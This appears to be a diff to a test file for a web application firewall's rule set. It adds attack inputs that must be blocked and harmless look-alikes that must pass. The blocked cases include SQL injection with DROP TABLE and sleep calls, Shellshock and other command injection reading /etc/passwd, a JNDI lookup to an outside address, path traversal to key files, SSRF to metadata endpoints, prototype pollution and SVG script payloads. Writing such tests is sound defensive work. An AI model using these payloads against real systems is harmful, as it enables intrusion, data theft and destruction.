@@ -5,6 +5,7 @@ import { compileRuleSet } from '../src/compile/compile-rule-set.ts'
 import { noRuleFiles } from '../src/language/rule-files.ts'
 import { createSeclangInspector, type SeclangInspector } from '../src/transaction/seclang-inspector.ts'
 import { benignValues } from './benign-values.ts'
+import { asDrawing, asJsonBody } from './builtin-places.ts'
 import { carry, inspect, isRefused, places, type SampleRequest, type SampleResponse } from './rule-traffic.ts'
 import { sqliAttacks } from './sqli-attacks.ts'
 
@@ -88,6 +89,14 @@ const refused: readonly Vector[] = [
   [770201, 'doubly encoded SQL', query('1%27%20or%20%271%27%3d%271')],
   [770201, 'SQL in XML', xml('<a><b>1 or 1=1</b></a>')],
   [770202, 'SQL in the path', { target: '/product/1%20AND%201%3D(SELECT%201%20FROM%20pg_sleep(1.2))' }],
+  [770205, 'SQL in a segment with slashes in it', { target: "/product/1'%2F**%2For%2F**%2F1=1--/reviews" }],
+  [770205, 'SQL in a segment with comments for blanks', { target: '/product/1/**/union/**/select/**/1,2--' }],
+  [770206, 'a number or a column in the path', { target: '/product/0%20OR%20hidden' }],
+  [770206, 'the same in pieces', { target: '/product/7%09||%0anot%20hidden?x=1' }],
+  [770201, 'a number or a column', query('0 OR hidden', 'category')],
+  [770201, 'a table dropped with all it holds', query("x'; DROP TABLE orders CASCADE;--", 'category')],
+  [770201, 'a pause behind a sort key', query('user_login,SLEEP(5)', 'sort')],
+  [770201, 'a pause behind a direction', query('price desc,pg_sleep(5)', 'sort')],
   [770203, 'SQL in a header', { headers: { Referer: "' or 1=1--" } }],
   [770204, 'SQL in a base64 cookie', cookie(base64("0) UNION SELECT 1,value,key,0,'' FROM settings--"))],
   [770211, 'an operator for a password', json({ partner: 'northwind', password: { $ne: null } })],
@@ -104,6 +113,8 @@ const refused: readonly Vector[] = [
   [770303, 'the bug of bash', agent('() { :; }; /bin/cat /etc/passwd')],
   [770304, 'a command in base64', form(base64('; cat /etc/passwd'))],
   [770305, 'an argument that sources a file', query('. private/payment.key', 'topic')],
+  [770306, 'a command in the name of a browser', agent('Mozilla/5.0 (X11)|base64 secrets.yml')],
+  [770301, 'a command in back-ticks before an address', form('`h$9ead -n 3 a.?nv`@example.org', 'email')],
   [770311, 'a template', form('{{7*7}}')],
   [770311, 'a template in pieces', form("{{(g=>g['get'+'Built'+'inModule']('f'+'s'))(this['pro'+'cess'])}}")],
   [770311, 'a look-up of a logger', agent('${jndi:ldap://198.51.100.7/a}')],
@@ -117,6 +128,8 @@ const refused: readonly Vector[] = [
   [770331, 'a Java object', form('rO0ABXNyABFqYXZhLnV0aWwuSGFzaA==')],
   [770331, 'a PHP object', form('O:8:"stdClass":1:{s:1:"a";i:1;}')],
   [770332, 'a PHP object in base64', form(base64('O:8:"stdClass":1:{s:1:"a";i:1;}'))],
+  [770343, 'an empty object for the prototype', asJsonBody('{"a":{"__proto__":{}}}')],
+  [770343, 'the same in escapes', asJsonBody('{"\\u005f_proto__":{"a":[]}}')],
   [770341, 'the prototype', json('{"theme":"dark","__proto__":{"admin":true}}')],
   [770341, 'the prototype by its constructor', json({ constructor: { prototype: { admin: true } } })],
   [770342, 'the prototype inside text', form('{"__proto__":{"admin":true}}')],
@@ -125,6 +138,7 @@ const refused: readonly Vector[] = [
   [770402, 'a path that wanders', query('./x/./..//../private/./payment.key', 'file')],
   [770403, 'an encoded path in the URL', { target: '/assets/%2e%2e%2fprivate%2fpayment.key' }],
   [770404, 'a path in base64', form(base64('../../../etc/passwd'))],
+  [770405, 'a file of the system in the URL', { target: '/static//etc/passwd' }],
   [770411, 'the own machine', query('http://127.0.0.1:8080/', 'url')],
   [770411, 'the own machine in hexadecimal', query('http://0x7f000001/latest/meta-data/', 'url')],
   [770411, 'the own machine in decimal', json({ url: 'http://2130706433/metadata' })],
@@ -153,10 +167,24 @@ const refused: readonly Vector[] = [
   [770601, 'a script as a picture', upload('me.php')],
   [770601, 'a page as a picture', upload('me.html')],
   [770601, 'a script with two endings', upload('me.php.')],
+  [770604, 'a drawing with a script', asDrawing('<svg><script>fetch(1)</script></svg>')],
+  [770604, 'a drawing with a handler', asDrawing('<?xml version="1.0"?>\n<svg\tonload="top.x()"/>')],
+  [770604, 'a drawing with a hidden link', asDrawing('<svg><a href="java&#115;cript:x()"/></svg>')],
   [770602, 'a file name with folders', upload('../files/warranty.txt')],
 ]
 
 const innocent: readonly (readonly [what: string, request: SampleRequest])[] = [
+  [
+    'a drawing',
+    asDrawing('<svg xmlns="http://www.w3.org/2000/svg"><title>on = off</title><path d="M0 0"/></svg>'),
+  ],
+  ['a climbing link', query('https://example.org/a/../b', 'link')],
+  ['a number or an amount in the path', { target: '/rooms/2%20or%20more' }],
+  ['a file in a sentence', query('see ../src/a.ts or ../../b/c.js')],
+  ['algebra', form('24x + 69 = 165 or x = 4')],
+  ['a condition in a sentence', form("if 9 > 8 and 8 < 9 then it's fine")],
+  ['words in quotes', form('"drop earrings" -sleeping')],
+  ['a question at the end', form('the legs broke; echo one?')],
   ['a search', query('select tents from the student union')],
   ['a search with comments', query('boots /* any colour */ size 42')],
   ['a search with a semicolon', query('table; drop leaf')],
